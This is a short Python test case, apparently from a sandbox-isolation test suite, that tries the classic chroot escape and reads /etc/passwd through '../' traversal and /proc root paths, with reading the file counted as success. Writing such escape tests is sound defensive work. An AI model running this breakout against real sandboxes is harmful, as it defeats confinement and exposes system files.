# family: namespaces
# kind: value
# tries: the classic way out of a changed root: a descriptor above it, and dots
# success looks like: contents of /etc/passwd
def job(plugin):
  @LIBC@
  answers = []
  try:
    above = os.open('.', 0)
    answers.append(libc.chroot(b'/dev/shm'))
    os.fchdir(above)
  except OSError as error:
    answers.append(str(error))
  for path in ('../' * 40 + 'etc/passwd', '/proc/1/root/etc/passwd', '/proc/self/root/etc/passwd'):
    try:
      answers.append(os.read(os.open(path, 0), 500))
    except OSError as error:
      answers.append(str(error))
  return answers
